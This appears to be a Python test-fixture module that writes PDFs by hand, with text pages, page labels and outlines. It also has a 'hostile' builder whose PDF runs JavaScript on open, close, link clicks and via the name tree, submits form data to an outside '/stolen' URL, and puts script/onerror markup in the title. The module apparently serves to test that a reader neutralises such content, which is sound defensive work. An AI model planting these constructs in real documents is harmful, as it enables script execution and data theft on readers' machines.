"""PDFs written by hand: lines of text on pages with labels and an outline, and one that means ill.

ISO 32000-1 with Helvetica, which every reader has: no compression, so that a test can say what stands where.
"""

from __future__ import annotations

from collections.abc import Sequence

WIDTH, HEIGHT = 612, 792
LEFT, TOP, LEADING, SIZE = 72, 720, 20, 12
LIGATURES = {"\ufb01": "\\256", "\ufb02": "\\257"}  # StandardEncoding
PAYLOAD = "app.alert('run'); this.submitForm('http://arxiv.org/stolen')"
MARKUP = "<img src=x onerror=document.title='run'><script>document.title='run'</script>"


def pdf(
    pages: Sequence[Sequence[str]], *, title: str = "", labels: str = "", extra: Sequence[str] = (), root: str = ""
) -> bytes:
    """A PDF whose pages hold these lines; `labels` as in a page label dictionary, `extra` objects from number 4 on.

    Objects: 1 catalog, 2 pages, 3 font, then `extra`, then a page and its content for each page.
    """
    first = 4 + len(extra)
    kids = " ".join(f"{first + 2 * number} 0 R" for number in range(len(pages)))
    named = f"/PageLabels << /Nums [{labels}] >>" if labels else ""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {named} {root} >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {len(pages)} /MediaBox [0 0 {WIDTH} {HEIGHT}] >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /StandardEncoding >>",
        *extra,
    ]
    for number, lines in enumerate(pages):
        notes = " ".join(f"{4 + place} 0 R" for place, one in enumerate(extra) if "/Annot" in one)
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /Contents {first + 2 * number + 1} 0 R /Annots [{notes}]"
            " /Resources << /Font << /F 3 0 R >> >> >>"
        )
        drawn = "\n".join(f"({_escaped(line)}) Tj T*" for line in lines)
        content = f"BT /F {SIZE} Tf {LEADING} TL {LEFT} {TOP} Td\n{drawn}\nET"
        objects.append(f"<< /Length {len(content.encode('latin-1'))} >>\nstream\n{content}\nendstream")
    return _file(objects, f"/Title ({_escaped(title)})" if title else "")


def outline(*chapters: tuple[str, int]) -> tuple[list[str], str]:
    """Objects from number 4 on and the catalog's part for an outline of (title, page from 0); pages follow it."""
    first_page = 4 + 1 + len(chapters)
    last = 4 + len(chapters)
    lines = [f"<< /Type /Outlines /First 5 0 R /Last {last} 0 R /Count {len(chapters)} >>"]
    for number, (title, page) in enumerate(chapters):
        after = f"/Next {6 + number} 0 R" if number + 1 < len(chapters) else ""
        before = f"/Prev {4 + number} 0 R" if number else ""
        place = f"[{first_page + 2 * page} 0 R /XYZ 0 {HEIGHT} 0]"
        lines.append(f"<< /Title ({_escaped(title)}) /Parent 4 0 R {after} {before} /Dest {place} >>")
    return lines, "/Outlines 4 0 R"


def hostile(lines: Sequence[str]) -> bytes:
    """A PDF that would run scripts when it is opened, shown, clicked or named."""
    action = f"<< /S /JavaScript /JS ({_escaped(PAYLOAD)}) >>"
    rect = f"/Rect [0 0 {WIDTH} {HEIGHT}]"
    address = "<< /S /URI /URI (javascript:document.title='run') >>"
    link = f"<< /Type /Annot /Subtype /Link {rect} /A {address} /AA << /E {action} >> >>"
    root = f"/OpenAction {action} /AA << /WC {action} >> /Names << /JavaScript << /Names [(a) {action}] >> >>"
    return pdf([lines], title=MARKUP, extra=[link], root=root)


def _escaped(text: str) -> str:
    safe = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    return "".join(LIGATURES.get(sign, sign) for sign in safe)


def _file(objects: Sequence[str], facts: str) -> bytes:
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate([*objects, f"<< {facts} >>"], 1):
        places.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    table = len(out)
    rows = "".join(f"{place:010d} 00000 n \n" for place in places)
    size = len(places) + 1
    out += f"xref\n0 {size}\n0000000000 65535 f \n{rows}".encode()
    out += f"trailer\n<< /Size {size} /Root 1 0 R /Info {size - 1} 0 R >>\nstartxref\n{table}\n%%EOF\n".encode()
    return bytes(out)
